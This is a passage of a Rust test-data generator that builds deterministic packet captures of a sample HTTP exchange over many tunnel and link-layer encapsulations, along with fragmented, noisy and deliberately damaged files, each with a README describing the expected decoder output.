//! Generates the test captures under `testdata/` (run `scripts/gen-testdata`).
//!
//! Every case is deterministic: fixed timestamps from 2024-05-01T12:00:00Z,
//! fixed addresses (10.x, fd00::), fixed ISNs, so two runs give byte-identical
//! files. Each case folder gets its capture and a README; the expected stage
//! outputs next to them are written by `scripts/bless`, never by this program.
//!
//! Usage: `cargo run --example gen_testdata -- [DIR]` (default `testdata`).
//! The end-to-end tests include this file to check `testdata/` is up to date.

use std::fmt::Write as _;
use std::path::Path;

use common::record::{LinkType, Ts};
use common::synth::{
    ethernet_for, pcap_bytes, Dir, Frame, GeneveOpt, PcapNg, Segment, TcpConversation, CLIENT_MAC,
    EPOCH_2024_05_01, SERVER_MAC,
};

/// One generated case.
pub struct Case {
    pub name: &'static str,
    /// `input.pcap` or `input.pcapng`.
    pub file: &'static str,
    pub bytes: Vec<u8>,
    pub readme: String,
    /// HTTP requests tshark must find (`-Y http.request`); `None` for damaged files.
    pub http_requests: Option<usize>,
    /// Extra tshark arguments needed to decode the case.
    pub tshark_args: &'static [&'static str],
    /// tshark's expert info flags warnings or malformed packets on purpose
    /// (lost segments, smuggling, codings tshark cannot decode).
    pub tshark_warnings: bool,
}

const CLIENT: &str = "10.1.0.7:51234";
const SERVER: &str = "10.1.0.9:80";
const CLIENT6: &str = "[fd00::7]:51234";
const SERVER6: &str = "[fd00::9]:80";
const OUTER_SRC: &str = "10.0.0.5";
const OUTER_DST: &str = "10.0.0.9";

fn http_request(method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("{method} {uri} HTTP/1.1\r\nHost: app.example\r\n");
    for (k, v) in headers {
        let _ = write!(s, "{k}: {v}\r\n");
    }
    if !body.is_empty() || method == "POST" || method == "PUT" {
        let _ = write!(s, "Content-Length: {}\r\n", body.len());
    }
    s.push_str("\r\n");
    let mut v = s.into_bytes();
    v.extend_from_slice(body);
    v
}

fn http_response(status: &str, headers: &[(&str, &str)], body: &[u8]) -> Vec<u8> {
    let mut s = format!("HTTP/1.1 {status}\r\n");
    for (k, v) in headers {
        let _ = write!(s, "{k}: {v}\r\n");
    }
    if !headers.iter().any(|(k, _)| *k == "Transfer-Encoding") {
        let _ = write!(s, "Content-Length: {}\r\n", body.len());
    }
    s.push_str("\r\n");
    let mut v = s.into_bytes();
    v.extend_from_slice(body);
    v
}

/// The short keep-alive exchange every basic case carries: two requests, two responses.
fn exchange(client: &str, server: &str) -> TcpConversation {
    let json = [("Content-Type", "application/json")];
    TcpConversation::new(client, server)
        .request(&http_request(
            "GET",
            "/api/items?page=1",
            &[
                ("User-Agent", "tw-synth/1.0"),
                ("Accept", "application/json"),
            ],
            b"",
        ))
        .response(&http_response(
            "200 OK",
            &json,
            br#"{"items":[{"id":1,"name":"bolt"},{"id":2,"name":"nut"}]}"#,
        ))
        .request(&http_request(
            "POST",
            "/api/items",
            &[("User-Agent", "tw-synth/1.0"), json[0]],
            br#"{"name":"widget"}"#,
        ))
        .response(&http_response("201 Created", &json, br#"{"id":3}"#))
}

/// The frames of `conv`, each segment wrapped by `encap`.
fn wrap(conv: &TcpConversation, encap: impl Fn(&Segment) -> Frame) -> Vec<(Ts, Vec<u8>)> {
    conv.frames(encap)
}

/// An outer Ethernet + IPv4 header from the mirror source to the sensor.
fn outer() -> Frame {
    Frame::new().ethernet().ipv4(OUTER_SRC, OUTER_DST).ttl(63)
}

struct Spec {
    name: &'static str,
    what: &'static str,
    decap: &'static str,
    link: LinkType,
    frames: Vec<(Ts, Vec<u8>)>,
}

const EXCHANGE_NOTE: &str = "One TCP connection 10.1.0.7:51234 -> 10.1.0.9:80 \
(handshake, `GET /api/items?page=1` -> `200 OK` with a JSON body, `POST /api/items` -> \
`201 Created`, FIN both ways; 14 segments)";

fn basic_specs() -> Vec<Spec> {
    let conv = exchange(CLIENT, SERVER);
    let conv6 = exchange(CLIENT6, SERVER6);
    let mut specs = vec![];
    let mut add = |name, what, decap, link, frames| {
        specs.push(Spec {
            name,
            what,
            decap,
            link,
            frames,
        })
    };
    add(
        "plain-ethernet",
        "The baseline: Ethernet II, IPv4, TCP.",
        "14 `packet` records, empty `tunnel`, IPv4 10.1.0.7 <-> 10.1.0.9.",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir)),
    );
    add(
        "linux-sll",
        "Linux cooked capture v1 (`tcpdump -i any`, DLT 113).",
        "14 `packet` records, empty `tunnel`.",
        LinkType::LinuxSll,
        wrap(&conv, |_| Frame::new().sll()),
    );
    add(
        "linux-sll2",
        "Linux cooked capture v2 (DLT 276, interface index 2).",
        "14 `packet` records, empty `tunnel`.",
        LinkType::LinuxSll2,
        wrap(&conv, |_| Frame::new().sll2()),
    );
    add(
        "raw-ip",
        "Raw IP, no link header (DLT 101), as captured on a tun device.",
        "14 `packet` records, empty `tunnel`.",
        LinkType::Raw,
        wrap(&conv, |_| Frame::raw()),
    );
    add(
        "bsd-null",
        "BSD loopback (DLT 0): a 4-byte address family (2, AF_INET) in host (little-endian) order.",
        "14 `packet` records, empty `tunnel`.",
        LinkType::Null,
        wrap(&conv, |_| Frame::new().null()),
    );
    add(
        "vlan-qinq",
        "QinQ: an 802.1ad service tag (0x88a8, VID 100) over an 802.1Q customer tag (0x8100, VID 42).",
        "14 `packet` records, each with `tunnel` `[{\"kind\":\"vlan\",\"vid\":100},{\"kind\":\"vlan\",\"vid\":42}]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir).vlan(100).vlan(42)),
    );
    add(
        "vlan-9100",
        "Pre-standard QinQ: an outer tag with TPID 0x9100 (VID 100) over an 802.1Q tag (VID 42).",
        "14 `packet` records, each with two `vlan` entries (vid 100 then 42).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            ethernet_for(s.dir)
                .vlan_tpid(0x9100, 100)
                .vlan_tpid(0x8100, 42)
        }),
    );
    add(
        "mpls-stack",
        "An MPLS label stack of two labels (1000, then 2000 with bottom-of-stack) over Ethernet, IPv4 below.",
        "14 `packet` records, each with two `mpls` tunnel entries (labels 1000 and 2000).",
        LinkType::Ethernet,
        wrap(&conv, |s| ethernet_for(s.dir).mpls(1000).mpls(2000)),
    );
    add(
        "ipv6-ext-headers",
        "IPv6 with a hop-by-hop header (Router Alert) and a destination options header before TCP, fd00::7 -> fd00::9.",
        "14 `packet` records with `ip.v` 6, the extension headers skipped, TCP decoded.",
        LinkType::Ethernet,
        conv6
            .segments()
            .iter()
            .map(|s| {
                let f = ethernet_for(s.dir)
                    .append(s.ip_frame(conv6.get_mss()))
                    .hop_by_hop()
                    .dest_opts();
                (s.ts, f.build())
            })
            .collect(),
    );
    add(
        "gre-key-seq",
        "GRE (IPv4 10.0.0.5 -> 10.0.0.9) with the key (0x1234) and sequence-number fields, inner IPv4 (protocol 0x0800).",
        "14 `packet` records, each with one `gre` tunnel entry (key 4660) and the outer addresses.",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .gre_with(false, Some(0x1234), Some(i as u32 + 1))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "gre-teb",
        "GRE transparent Ethernet bridging (protocol 0x6558): a whole Ethernet frame inside GRE.",
        "14 `packet` records, each with one `gre` tunnel entry; the inner Ethernet is decoded.",
        LinkType::Ethernet,
        wrap(&conv, |s| outer().gre().append(ethernet_for(s.dir))),
    );
    add(
        "erspan-i",
        "ERSPAN type I: GRE protocol 0x88be without the sequence bit, the mirrored Ethernet frame right after the 4-byte GRE header.",
        "14 `packet` records, each with one `erspan` tunnel entry (version 1 / type I).",
        LinkType::Ethernet,
        wrap(&conv, |s| outer().erspan1().append(ethernet_for(s.dir))),
    );
    add(
        "erspan-ii",
        "ERSPAN type II: GRE 0x88be with sequence numbers and the 8-byte ERSPAN II header (session 5, VLAN 42).",
        "14 `packet` records, each with one `erspan` tunnel entry (type II, session 5).",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .erspan2(5, 42, i as u32 + 1)
                        .append(ethernet_for(s.dir))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "erspan-iii",
        "ERSPAN type III: GRE 0x22eb with sequence numbers, the 12-byte ERSPAN III header (session 6, VLAN 42) and the 8-byte platform-specific subheader (O bit set).",
        "14 `packet` records, each with one `erspan` tunnel entry (type III, session 6).",
        LinkType::Ethernet,
        {
            let segs = conv.segments();
            segs.iter()
                .enumerate()
                .map(|(i, s)| {
                    let f = outer()
                        .erspan3(6, 42, i as u32 + 1, true)
                        .append(ethernet_for(s.dir))
                        .append(s.ip_frame(conv.get_mss()));
                    (s.ts, f.build())
                })
                .collect()
        },
    );
    add(
        "vxlan",
        "VXLAN on UDP 4789 (VNI 7) from the mirror source 10.0.0.5 to the sensor 10.0.0.9, inner Ethernet/IPv4/TCP.",
        "14 `packet` records, each with `tunnel` `[{\"kind\":\"vxlan\",\"vni\":7,\"outer_src\":\"10.0.0.5\",\"outer_dst\":\"10.0.0.9\"}]`.",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "vxlan-8472",
        "VXLAN on UDP 8472, the Linux kernel's historical default port (VNI 8). tshark needs `-d udp.port==8472,vxlan`.",
        "14 `packet` records, each with one `vxlan` tunnel entry (vni 8), provided port 8472 is among the VXLAN ports (it is by default).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 8472)
                .udp_zero_checksum()
                .vxlan(8)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "vxlan-vlan",
        "VXLAN (VNI 7) whose inner Ethernet frame carries an 802.1Q tag (VID 42).",
        "14 `packet` records, each with `tunnel` `[vxlan vni 7, vlan vid 42]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir).vlan(42))
        }),
    );
    add(
        "geneve-options",
        "Geneve on UDP 6081 (VNI 9) with two option TLVs (class 0x0102 type 0x80 with 4 bytes, class 0xffff type 1 with 8 bytes), inner Ethernet (protocol 0x6558).",
        "14 `packet` records, each with one `geneve` tunnel entry (vni 9); the options are skipped by their length.",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49152, 6081)
                .geneve(9, geneve_opts())
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "geneve-vxlan",
        "AWS-style nesting: a Gateway Load Balancer Geneve tunnel (UDP 6081, VNI 10, three AWS option TLVs of class 0x0108, inner IPv4) carrying VPC Traffic Mirroring VXLAN (UDP 4789, VNI 7) carrying the mirrored Ethernet frame.",
        "14 `packet` records, each with `tunnel` `[geneve vni 10, vxlan vni 7]` (outermost first).",
        LinkType::Ethernet,
        wrap(&conv, |s| {
            outer()
                .udp(49153, 6081)
                .geneve(10, aws_geneve_opts())
                .ipv4("10.2.0.5", "10.2.0.9")
                .udp(49152, 4789)
                .udp_zero_checksum()
                .vxlan(7)
                .append(ethernet_for(s.dir))
        }),
    );
    add(
        "ipip-4in4",
        "IP-in-IP: IPv4 (protocol 4) from 10.0.0.5 to 10.0.0.9 carrying the IPv4 packet.",
        "14 `packet` records, each with one `ipip` tunnel entry and the outer addresses.",
        LinkType::Ethernet,
        wrap(&conv, |_| outer()),
    );
    add(
        "ipip-6in4",
        "6in4: IPv4 (protocol 41) from 10.0.0.5 to 10.0.0.9 carrying IPv6 fd00::7 <-> fd00::9.",
        "14 `packet` records with `ip.v` 6, each with one `ipip` tunnel entry.",
        LinkType::Ethernet,
        wrap(&conv6, |_| outer()),
    );
    specs
}

fn geneve_opts() -> Vec<GeneveOpt> {
    vec![
        GeneveOpt {
            class: 0x0102,
            kind: 0x80,
            data: vec![0xde, 0xad, 0xbe, 0xef],
        },
        GeneveOpt {
            class: 0xffff,
            kind: 0x01,
            data: b"tapwatch".to_vec(),
        },
    ]
}

/// The three options AWS GWLB attaches (class 0x0108): GWLBE/VPC endpoint id,
/// attachment id and flow cookie.
fn aws_geneve_opts() -> Vec<GeneveOpt> {
    vec![
        GeneveOpt {
            class: 0x0108,
            kind: 1,
            data: 0x0123_4567_89ab_cdefu64.to_be_bytes().to_vec(),
        },
        GeneveOpt {
            class: 0x0108,
            kind: 2,
            data: 0x0000_0000_0000_0042u64.to_be_bytes().to_vec(),
        },
        GeneveOpt {
            class: 0x0108,
            kind: 3,
            data: 0x1122_3344u32.to_be_bytes().to_vec(),
        },
    ]
}

/// Data segments split into IP fragments of `size` bytes; the fragments of the
/// first response segment are written in reverse order.
fn fragmented(conv: &TcpConversation, size: usize) -> Vec<(Ts, Vec<u8>)> {
    let mut out = vec![];
    let mut reversed = false;
    for s in conv.segments() {
        let f = ethernet_for(s.dir).append(s.ip_frame(conv.get_mss()));
        if s.payload.is_empty() {
            out.push((s.ts, f.build()));
            continue;
        }
        let mut frags = f.fragments(size);
        if s.dir == Dir::S2c && !reversed {
            frags.reverse();
            reversed = true;
        }
        // Fragments of one segment 10 µs apart, all before the next segment.
        for (i, frag) in frags.into_iter().enumerate() {
            let ts = Ts::new(s.ts.secs, s.ts.nanos + 10_000 * i as u32, s.ts.digits);
            out.push((ts, frag));
        }
    }
    out
}

fn readme(name: &str, what: &str, how: &str, file: &str, stages: &str) -> String {
    format!(
        "# {name}\n\n{what}\n\n## How it was made\n\n{how}\n\nGenerated by `scripts/gen-testdata` \
         (`examples/gen_testdata.rs`, case `{name}`): deterministic, timestamps from \
         2024-05-01T12:00:00Z. Do not edit `{file}` by hand; change the generator and rerun it.\n\n\
         ## What the stages should output\n\n{stages}\n\nThe expected outputs (`capture.ndjson`, \
         `decap.ndjson`, `decap.stderr`, ...) are written by `scripts/bless` and checked by \
         `cargo test --test e2e golden`.\n"
    )
}

fn basic_stage_text(decap: &str, frames: usize) -> String {
    format!(
        "- `tw-capture`: {frames} `frame` records, one per capture record, in file order.\n\
         - `tw-decap`: {decap}\n\
         - Later stages: one connection with two HTTP transactions (`GET /api/items?page=1` \
         -> 200, `POST /api/items` -> 201), closed by FIN."
    )
}

/// Every case, in a fixed order.
pub fn cases() -> Vec<Case> {
    let mut cases = vec![];
    for spec in basic_specs() {
        let how = format!("{EXCHANGE_NOTE}, wrapped as described above; classic pcap, microsecond timestamps, link type `{}`.", spec.link);
        cases.push(Case {
            name: spec.name,
            file: "input.pcap",
            readme: readme(
                spec.name,
                spec.what,
                &how,
                "input.pcap",
                &basic_stage_text(spec.decap, spec.frames.len()),
            ),
            bytes: pcap_bytes(spec.link, false, &spec.frames),
            http_requests: Some(2),
            tshark_args: if spec.name == "vxlan-8472" {
                &["-d", "udp.port==8472,vxlan"]
            } else {
                &[]
            },
            tshark_warnings: false,
        });
    }
    cases.push(fragments_case(
        "ipv4-fragments",
        exchange(CLIENT, SERVER),
        "IPv4 fragmentation: every TCP segment carrying data is split into IP fragments of at \
         most 64 bytes of payload (DF clear, ids counting per direction); the fragments of the \
         first response segment arrive in reverse order.",
    ));
    cases.push(fragments_case(
        "ipv6-fragments",
        exchange(CLIENT6, SERVER6),
        "IPv6 fragmentation: every TCP segment carrying data is split with IPv6 fragment \
         headers (next header 44) into fragments of at most 64 bytes; the fragments of the \
         first response segment arrive in reverse order.",
    ));
    cases.push(pcapng_multi());
    cases.push(pcap_nanos());
    cases.push(mixed_noise());
    cases.push(bad_truncated());
    cases.push(bad_caplen());
    cases.push(sample::case());
    cases.extend(http::cases());
    cases
}

fn fragments_case(name: &'static str, conv: TcpConversation, what: &'static str) -> Case {
    // IPv4 ids must differ per datagram and DF must be clear on fragments.
    let frames = fragmented(&conv, 64);
    let stages = format!(
        "- `tw-capture`: {} `frame` records (fragments are separate records).\n\
         - `tw-decap`: the fragments reassembled: 14 `packet` records, the same as \
         `plain-ethernet` apart from addresses, times and the IP header fields.\n\
         - Later stages: the two HTTP transactions, as in `plain-ethernet`.",
        frames.len()
    );
    Case {
        name,
        file: "input.pcap",
        readme: readme(
            name,
            what,
            &format!("{EXCHANGE_NOTE}; classic pcap, microsecond timestamps, Ethernet."),
            "input.pcap",
            &stages,
        ),
        bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
        http_requests: Some(2),
        tshark_args: &[],
        tshark_warnings: false,
    }
}

fn pcapng_multi() -> Case {
    // Connection A on eth0 (Ethernet, µs); connection B on tun0 (raw IP, ns),
    // starting 0.5 ms later so the two interleave.
    let a = exchange(CLIENT, SERVER);
    let b = exchange("10.1.0.8:40000", SERVER).start(Ts::from_nanos(EPOCH_2024_05_01, 500_123));
    let mut ng = PcapNg::new();
    let eth0 = ng.interface(LinkType::Ethernet, 6, "eth0");
    let tun0 = ng.interface(LinkType::Raw, 9, "tun0");
    let mut all: Vec<(Ts, u32, Vec<u8>)> = vec![];
    for (ts, f) in wrap(&a, |s| ethernet_for(s.dir)) {
        all.push((ts, eth0, f));
    }
    for (ts, f) in wrap(&b, |_| Frame::raw()) {
        all.push((ts, tun0, f));
    }
    all.sort_by_key(|(ts, iface, _)| (*ts, *iface));
    for (ts, iface, f) in &all {
        ng.packet(*iface, *ts, f);
    }
    Case {
        name: "pcapng-multi",
        file: "input.pcapng",
        readme: readme(
            "pcapng-multi",
            "pcapng with two interfaces of different link types: `eth0` (Ethernet, default \
             microsecond resolution) and `tun0` (raw IP, `if_tsresol` 9 = nanoseconds). Each \
             interface carries its own connection; their packets interleave in time.",
            &format!(
                "Two exchanges like `plain-ethernet`: 10.1.0.7:51234 -> 10.1.0.9:80 on `eth0` \
                 and 10.1.0.8:40000 -> 10.1.0.9:80 on `tun0`, starting 0.500123 ms later. \
                 One section, two IDBs, {} EPBs in time order.",
                all.len()
            ),
            "input.pcapng",
            "- `tw-capture`: 28 `frame` records; `src` names the interface (`eth0` or `tun0`), \
             `link` is `ethernet` or `raw`, `tun0` times carry nine fractional digits.\n\
             - `tw-decap`: 28 `packet` records, empty `tunnel`.\n\
             - Later stages: two connections, four HTTP transactions.",
        ),
        bytes: ng.into_bytes(),
        http_requests: Some(4),
        tshark_args: &[],
        tshark_warnings: false,
    }
}

fn pcap_nanos() -> Case {
    let conv = exchange(CLIENT, SERVER)
        .start(Ts::from_nanos(EPOCH_2024_05_01, 123))
        .step_nanos(1_000_001);
    let frames = wrap(&conv, |s| ethernet_for(s.dir));
    Case {
        name: "pcap-nanos",
        file: "input.pcap",
        readme: readme(
            "pcap-nanos",
            "Classic pcap with nanosecond timestamps (magic 0xa1b23c4d).",
            &format!(
                "{EXCHANGE_NOTE}; first packet at 12:00:00.000000123, then every 1.000001 ms."
            ),
            "input.pcap",
            "- `tw-capture`: 14 `frame` records whose `ts` keep nine fractional digits \
             (`2024-05-01T12:00:00.000000123Z`, `...00.001000124Z`, ...).\n\
             - `tw-decap`: 14 `packet` records with the same times.\n\
             - Later stages: as `plain-ethernet`, times in nanoseconds.",
        ),
        bytes: pcap_bytes(LinkType::Ethernet, true, &frames),
        http_requests: Some(2),
        tshark_args: &[],
        tshark_warnings: false,
    }
}

fn dns_query(id: u16, name: &str, response: bool) -> Vec<u8> {
    let mut v = id.to_be_bytes().to_vec();
    v.extend_from_slice(if response {
        &[0x81, 0x80]
    } else {
        &[0x01, 0x00]
    });
    v.extend_from_slice(&[0, 1, 0, u8::from(response), 0, 0, 0, 0]);
    for label in name.split('.') {
        v.push(label.len() as u8);
        v.extend_from_slice(label.as_bytes());
    }
    v.extend_from_slice(&[0, 0, 1, 0, 1]);
    if response {
        v.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 10, 1, 0, 9]);
    }
    v
}

fn mixed_noise() -> Case {
    let conv = exchange(CLIENT, SERVER).start(Ts::from_micros(EPOCH_2024_05_01, 100_000));
    let mut frames = wrap(&conv, |s| ethernet_for(s.dir));
    let t = |micros: u32| Ts::from_micros(EPOCH_2024_05_01, micros);
    let bcast = [0xff; 6];
    let noise: Vec<(Ts, Vec<u8>)> = vec![
        (
            t(0),
            Frame::new()
                .ethernet()
                .macs(CLIENT_MAC, bcast)
                .arp(false, "10.1.0.7", "10.1.0.1")
                .build(),
        ),
        (
            t(200),
            Frame::new()
                .ethernet()
                .macs(SERVER_MAC, CLIENT_MAC)
                .arp(true, "10.1.0.1", "10.1.0.7")
                .build(),
        ),
        (
            t(1_000),
            ethernet_for(Dir::C2s)
                .ipv4("10.1.0.7", "10.1.0.53")
                .udp(53000, 53)
                .payload(&dns_query(0x4242, "app.example", false))
                .build(),
        ),
        (
            t(1_800),
            ethernet_for(Dir::S2c)
                .ipv4("10.1.0.53", "10.1.0.7")
                .udp(53, 53000)
                .payload(&dns_query(0x4242, "app.example", true))
                .build(),
        ),
        (
            t(50_000),
            ethernet_for(Dir::C2s)
                .ipv4("10.1.0.7", "10.1.0.9")
                .icmp_echo(false, 7, 1)
                .payload(b"tapwatch-ping-0123456789abcdef")
                .build(),
        ),
        (
            t(50_300),
            ethernet_for(Dir::S2c)
                .ipv4("10.1.0.9", "10.1.0.7")
                .icmp_echo(true, 7, 1)
                .payload(b"tapwatch-ping-0123456789abcdef")
                .build(),
        ),
        (
            t(105_500),
            ethernet_for(Dir::C2s)
                .ipv6("fd00::7", "fd00::9")
                .icmpv6_echo(false, 8, 1)
                .payload(b"ping6")
                .build(),
        ),
        (
            t(107_500),
            ethernet_for(Dir::C2s)
                .ipv6("fd00::7", "fd00::53")
                .udp(53001, 53)
                .payload(&dns_query(0x4343, "app.example", false))
                .build(),
        ),
    ];
    frames.extend(noise);
    frames.sort_by_key(|(ts, _)| *ts);
    Case {
        name: "mixed-noise",
        file: "input.pcap",
        readme: readme(
            "mixed-noise",
            "The HTTP exchange among traffic a decoder must count and skip: an ARP request and \
             reply, a DNS query and response over UDP/IPv4, an ICMP echo request and reply, an \
             ICMPv6 echo request and a DNS query over UDP/IPv6 (non-TCP IPv6).",
            &format!("{EXCHANGE_NOTE}, starting at 12:00:00.1; the 8 other frames around and between it."),
            "input.pcap",
            "- `tw-capture`: 22 `frame` records.\n\
             - `tw-decap`: the 14 TCP segments as `packet` records; the ARP frames are counted \
             as non-IP and the UDP/ICMP/ICMPv6 packets as non-TCP in the `decap.stderr` \
             summary (or emitted as packets without `tcp`, whichever the stage's contract says).\n\
             - Later stages: the two HTTP transactions.",
        ),
        bytes: pcap_bytes(LinkType::Ethernet, false, &frames),
        http_requests: Some(2),
        tshark_args: &[],
        tshark_warnings: false,
    }
}

fn bad_truncated() -> Case {
    let frames = wrap(&exchange(CLIENT, SERVER), |s| ethernet_for(s.dir));
    let mut bytes = pcap_bytes(LinkType::Ethernet, false, &frames);
    // The last record (a 60-byte ACK) loses its final 20 bytes.
    bytes.truncate(bytes.len() - 20);
    Case {
        name: "bad-truncated",
        file: "input.pcap",
        readme: readme(
            "bad-truncated",
            "A pcap whose last record is cut short: the record header promises 60 bytes, only \
             40 follow (as when a capture is copied while still being written).",
            &format!("{EXCHANGE_NOTE}, written as `plain-ethernet`, then the last 20 bytes of the file removed."),
            "input.pcap",
            "- `tw-capture`: the first 13 frames, then a warning naming packet 13 and its byte \
             offset (\"record truncated\"), exit status 0 (status per `--strict` otherwise).\n\
             - `tw-decap`: 13 `packet` records; the summary counts the truncated record.\n\
             - Later stages: both HTTP transactions complete; the connection lacks its final ACK.",
        ),
        bytes,
        http_requests: None,
        tshark_args: &[],
        tshark_warnings: false,
    }
}

fn bad_caplen() -> Case {
    let frames = wrap(&exchange(CLIENT, SERVER), |s| ethernet_for(s.dir));
    let head = pcap_bytes(LinkType::Ethernet, false, &frames[..7]);
    let tail = pcap_bytes(LinkType::Ethernet, false, &frames[7..]);
    let mut bytes = head;
    // A damaged record header claiming 3 GB, followed by 8 bytes of junk.
    let secs = EPOCH_2024_05_01 as u32;
    for field in [secs, 6_500, 3_000_000_000, 3_000_000_000] {
        bytes.extend_from_slice(&field.to_ne_bytes());
    }
    bytes.extend_from_slice(b"garbage!");
    bytes.extend_from_slice(&tail[24..]);
    Case {
        name: "bad-caplen",
        file: "input.pcap",
        readme: readme(
            "bad-caplen",
            "A pcap with one damaged record in the middle: its header claims a captured length \
             of 3,000,000,000 bytes and 8 bytes of junk follow; good records come after it.",
            &format!("{EXCHANGE_NOTE}, written as `plain-ethernet` with the damaged header and junk inserted after the 7th record."),
            "input.pcap",
            "- `tw-capture`: all 14 real frames; one warning naming packet 7, its byte offset, \
             the impossible length and how many bytes were skipped to resynchronise.\n\
             - `tw-decap`: 14 `packet` records; the summary counts one damaged record.\n\
             - Later stages: both HTTP transactions, as in `plain-ethernet`.",
        ),
        bytes,
        http_requests: None,
        tshark_args: &[],
        tshark_warnings: false,
    }
}

/// The bundled sample: a small realistic mix over VXLAN and plain Ethernet.
mod sample {
    use super::*;

    /// CRC-32 (IEEE), for the gzip trailer.
    fn crc32(data: &[u8]) -> u32 {
        let mut crc = !0u32;
        for &b in data {
            crc ^= u32::from(b);
            for _ in 0..8 {
                crc = if crc & 1 != 0 {
                    (crc >> 1) ^ 0xedb8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }

    /// A valid gzip member holding `data` in one stored (uncompressed) deflate block.
    fn gzip_stored(data: &[u8]) -> Vec<u8> {
        let mut v = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
        let len = data.len() as u16;
        v.push(1);
        v.extend_from_slice(&len.to_le_bytes());
        v.extend_from_slice(&(!len).to_le_bytes());
        v.extend_from_slice(data);
        v.extend_from_slice(&crc32(data).to_le_bytes());
        v.extend_from_slice(&(data.len() as u32).to_le_bytes());
        v
    }

    fn chunked(body: &[u8], chunk: usize) -> Vec<u8> {
        let mut v = vec![];
        for c in body.chunks(chunk) {
            v.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
            v.extend_from_slice(c);
            v.extend_from_slice(b"\r\n");
        }
        v.extend_from_slice(b"0\r\n\r\n");
        v
    }

    const UA: &[&str] = &[
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Safari/605.1.15",
        "okhttp/4.12.0",
        "python-requests/2.31.0",
    ];

    fn json_headers() -> Vec<(&'static str, &'static str)> {
        vec![
            ("Content-Type", "application/json"),
            ("Server", "nginx/1.24.0"),
            ("Cache-Control", "no-store"),
        ]
    }

    fn user_json(id: u32) -> String {
        format!(
            r#"{{"id":{id},"name":"user{id}","email":"user{id}@example.com","role":"member","created":"2024-04-{:02}T08:00:00Z"}}"#,
            id % 28 + 1
        )
    }

    /// One request/response pair of the sample's API, chosen by `k`.
    fn transaction(conn: u32, k: u32) -> (Vec<u8>, Vec<u8>) {
        let ua = UA[(conn as usize + k as usize) % UA.len()];
        let auth = format!("Bearer eyJhbGciOiJIUzI1NiJ9.c2FtcGxl.{conn:04x}{k:02x}");
        let base = [("User-Agent", ua), ("Accept", "application/json")];
        let with_auth = |extra: &[(&'static str, &str)]| -> Vec<(&str, String)> {
            let mut h: Vec<(&str, String)> =
                base.iter().map(|(a, b)| (*a, b.to_string())).collect();
            h.push(("Authorization", auth.clone()));
            h.extend(extra.iter().map(|(a, b)| (*a, b.to_string())));
            h
        };
        let req = |method: &str, uri: &str, headers: Vec<(&str, String)>, body: &[u8]| {
            let hs: Vec<(&str, &str)> = headers.iter().map(|(a, b)| (*a, b.as_str())).collect();
            http_request(method, uri, &hs, body)
        };
        let id = 100 + (conn * 7 + k * 3) % 50;
        match (conn + k) % 7 {
            0 => {
                let list: Vec<String> = (id..id + 3).map(user_json).collect();
                let body = format!(r#"{{"page":{},"users":[{}]}}"#, k + 1, list.join(","));
                (
                    req(
                        "GET",
                        &format!("/api/v1/users?page={}&limit=3", k + 1),
                        with_auth(&[]),
                        b"",
                    ),
                    http_response("200 OK", &json_headers(), body.as_bytes()),
                )
            }
            1 => (
                req("GET", &format!("/api/v1/users/{id}"), with_auth(&[]), b""),
                http_response("200 OK", &json_headers(), user_json(id).as_bytes()),
            ),
            2 => {
                let body = format!(
                    r#"{{"sku":"SKU-{id}","quantity":{},"note":"deliver to door"}}"#,
                    k + 1
                );
                (
                    req(
                        "POST",
                        "/api/v1/orders",
                        with_auth(&[("Content-Type", "application/json")]),
                        body.as_bytes(),
                    ),
                    http_response(
                        "201 Created",
                        &[
                            ("Content-Type", "application/json"),
                            ("Location", "/api/v1/orders/9001"),
                        ],
                        br#"{"id":9001,"status":"pending"}"#,
                    ),
                )
            }
            3 => (
                req(
                    "GET",
                    &format!("/api/v1/users/{}", id + 1000),
                    with_auth(&[]),
                    b"",
                ),
                http_response(
                    "404 Not Found",
                    &json_headers(),
                    br#"{"error":"not found"}"#,
                ),
            ),
            4 => {
                let body: Vec<String> = (0..12)
                    .map(|i| format!(r#"{{"sku":"SKU-{}","price":{}.99}}"#, id + i, 10 + i))
                    .collect();
                let body = format!("[{}]", body.join(","));
                (
                    req(
                        "GET",
                        "/api/v1/products?category=tools",
                        with_auth(&[("Accept-Encoding", "gzip")]),
                        b"",
                    ),
                    http_response(
                        "200 OK",
                        &[
                            ("Content-Type", "application/json"),
                            ("Content-Encoding", "gzip"),
                        ],
                        &gzip_stored(body.as_bytes()),
                    ),
                )
            }
            5 => {
                let items: Vec<String> = (0..20)
                    .map(|i| {
                        format!(
                            r#"{{"ts":"2024-05-01T11:{:02}:00Z","event":"login","user":{}}}"#,
                            i, id
                        )
                    })
                    .collect();
